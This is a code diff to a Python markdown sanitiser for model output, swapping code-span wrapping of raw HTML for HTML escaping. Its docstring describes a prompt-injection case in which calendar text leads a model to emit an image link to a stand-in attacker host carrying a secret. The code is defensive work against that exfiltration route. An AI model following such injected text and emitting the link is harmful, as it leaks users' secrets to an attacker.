@@ -3,11 +3,13 @@
 Model output is untrusted: calendar text can carry a prompt injection that asks the model
 to emit ``![x](https://attacker/?q=<secret>)``, which a browser would fetch. Before any
 answer is drawn, :func:`safe_markdown` turns images into inert text (the URL shown as code,
-never fetched nor linked) and shows raw HTML as code spans, so no tag is ever interpreted.
+never fetched nor linked) and escapes raw HTML, so no tag is ever interpreted. Ordinary
+links stay links: the user decides whether to follow one.
 """
 
 from __future__ import annotations
 
+import html
 import json
 import re
 from typing import Any
@@ -39,19 +41,13 @@ def safe_markdown(text: str) -> str:
     out = _INLINE_IMAGE.sub(_inline, text)
     out = _REF_IMAGE.sub(_ref, out)
     out = out.replace("![", "!\\[")  # shortcut references and anything left: never an image
-    out = _HTML_TAG.sub(lambda m: _inert_code(m.group(0)), out)
+    out = _HTML_TAG.sub(lambda m: html.escape(m.group(0)), out)
     return out
 
 
 def _inert_url(url: str) -> str:
     """Show a URL as code so it is neither fetched nor auto-linked."""
     return "`" + url.replace("`", "%60") + "`"
-
-
-def _inert_code(fragment: str) -> str:
-    """Show raw HTML as a code span: visible, never interpreted, its URLs not auto-linked."""
-    fence = "``" if "`" in fragment else "`"
-    return f"{fence} {fragment} {fence}" if fence == "``" else f"`{fragment}`"
 
 
 def pretty_json(data: Any, limit: int = 4000) -> str:
